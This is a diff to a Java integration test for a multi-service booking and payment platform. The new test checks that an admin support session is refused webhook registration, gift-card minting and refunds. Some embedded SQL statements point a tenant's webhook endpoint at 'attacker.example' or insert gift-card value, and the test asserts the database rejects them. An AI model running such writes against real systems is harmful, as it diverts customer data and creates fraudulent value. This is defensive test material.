@@ -51,6 +51,7 @@ class ChartBootIT {
     private static final int GATE_WEBHOOK_PORT = 9;
 
     private static final List<ServiceProcess> running = new ArrayList<>();
+    private static Map<String, String> secrets;
     private static final Map<String, Integer> ports = new HashMap<>();
     private static Chart.Rendered rendered;
 
@@ -72,7 +73,7 @@ class ChartBootIT {
         values.put("services.webhook-service.env.PALISADE_WEBHOOKS_EGRESS_ALLOW_LOOPBACK", "true");
         values.put("services.webhook-service.env.PALISADE_WEBHOOKS_EGRESS_HTTP_ALLOWED_HOSTS", "127.0.0.1");
         rendered = Chart.APP.render(Chart.KUBE_VERSIONS.get(4), values);
-        Map<String, String> secrets = secrets(stack);
+        secrets = secrets(stack);
         Path home = Files.createTempDirectory("chart-boot");
         for (ServiceSpec service : ServiceSpec.ALL) {
             ports.put("palisade-" + service.name(), PalisadeTestStack.freePort());
@@ -222,6 +223,64 @@ class ChartBootIT {
             rule.list("http.paths").stream().map(p -> rule.text("host") + p.text("path")).filter(route -> !usedRoutes.contains(route)).forEach(stale::add);
         }
         assertEquals(List.of(), stale, "routes no operation uses (files/routes.yaml)");
+    }
+
+    /**
+     * A platform admin's support session, on the whole platform, leaves nothing behind: it cannot register a webhook
+     * endpoint, mint gift-card value or refund, and the database refuses those writes under a support scope whatever
+     * the application would do.
+     */
+    @Test
+    void aSupportSessionRegistersNoEndpointAndMintsNoValue() throws Exception {
+        String slug = "support-" + UUID.randomUUID().toString().substring(0, 8);
+        String password = "Support-Passw0rd!" + UUID.randomUUID().toString().substring(0, 6);
+        assertEquals(201, send("palisade-tenant-service", "POST", "/signup", null, Map.of("tenantName", "Support " + slug, "tenantSlug", slug,
+                "email", "owner@" + slug + ".example", "displayName", "Owner", "password", password)).statusCode());
+        String owner = JSON.readTree(send("palisade-tenant-service", "POST", "/auth/login", null,
+                Map.of("email", "owner@" + slug + ".example", "password", password, "tenant", slug)).body()).path("accessToken").asText();
+        String endpoint = JSON.readTree(send("palisade-webhook-service", "POST", "/webhooks/endpoints", owner, Map.of("url",
+                "http://127.0.0.1:" + GATE_WEBHOOK_PORT + "/owner", "eventTypes", List.of("booking.created"))).body()).path("endpoint").path("id").asText();
+
+        String platform = JSON.readTree(send("palisade-tenant-service", "POST", "/auth/login", null, Map.of("email",
+                secrets.get("palisade-platform-admin/email"), "password", secrets.get("palisade-platform-admin/password"), "tenant", "platform"))
+                .body()).path("accessToken").asText();
+        String link = JSON.readTree(send("palisade-tenant-service", "POST", "/platform/support-sessions", platform,
+                Map.of("tenant", slug, "reason", "ticket 17: widget")).body()).path("link").asText();
+        JsonNode started = JSON.readTree(send("palisade-tenant-service", "POST", "/platform/support-sessions/start", platform, Map.of("link", link)).body());
+        String support = started.path("accessToken").asText();
+        assertEquals(200, send("palisade-booking-service", "GET", "/offerings", support, null).statusCode(), "support reads");
+        assertEquals(403, send("palisade-webhook-service", "POST", "/webhooks/endpoints", support, Map.of("url", "http://127.0.0.1:"
+                + GATE_WEBHOOK_PORT + "/support", "eventTypes", List.of("booking.created"))).statusCode());
+        assertEquals(403, send("palisade-payment-service", "POST", "/gift-cards", support, Map.of("amountMinor", 100000, "currency", "EUR")).statusCode());
+        assertEquals(403, send("palisade-payment-service", "POST", "/payments/" + UUID.randomUUID() + "/refunds", support,
+                Map.of("amountMinor", 100)).statusCode());
+
+        String admin = JSON.readTree(new String(java.util.Base64.getUrlDecoder().decode(platform.split("\\.")[1]),
+                java.nio.charset.StandardCharsets.UTF_8)).path("sub").asText();
+        String tenantId = JSON.readTree(new String(java.util.Base64.getUrlDecoder().decode(support.split("\\.")[1]),
+                java.nio.charset.StandardCharsets.UTF_8)).path("tid").asText();
+        for (String[] write : List.of(
+                new String[] { "webhook_service", "update webhook.endpoints set url = 'https://attacker.example/hook' where id = '" + endpoint + "'" },
+                new String[] { "webhook_service", "insert into webhook.endpoints (id, tenant_id, url, event_types, secret_sealed, created_by)"
+                        + " values (gen_random_uuid(), '" + tenantId + "', 'https://attacker.example/hook', '{booking.created}', 'x', '" + admin + "')" },
+                new String[] { "payment_service", "insert into payment.gift_cards (tenant_id, code_hash, code_hint, currency, expires_at)"
+                        + " values ('" + tenantId + "', 'h" + UUID.randomUUID() + "', 'XXXX', 'EUR', now() + interval '1 year')" })) {
+            try (java.sql.Connection c = PalisadeTestStack.get().connectAs(write[0]); java.sql.Statement st = c.createStatement()) {
+                c.setAutoCommit(false);
+                st.execute("select set_config('app.tenant_id', '" + tenantId + "', true), set_config('app.user_id', '" + admin
+                        + "', true), set_config('app.principal', 'support', true), set_config('app.support_session', '"
+                        + started.path("sessionId").asText() + "', true)");
+                int changed;
+                try {
+                    changed = st.executeUpdate(write[1]);
+                } catch (java.sql.SQLException refused) {
+                    assertEquals("42501", refused.getSQLState(), write[1]);
+                    changed = 0;
+                }
+                assertEquals(0, changed, "refused under a support scope: " + write[1]);
+                c.rollback();
+            }
+        }
     }
 
     /** The gate the chart runs after every install and upgrade, against these pods: every check passes. */
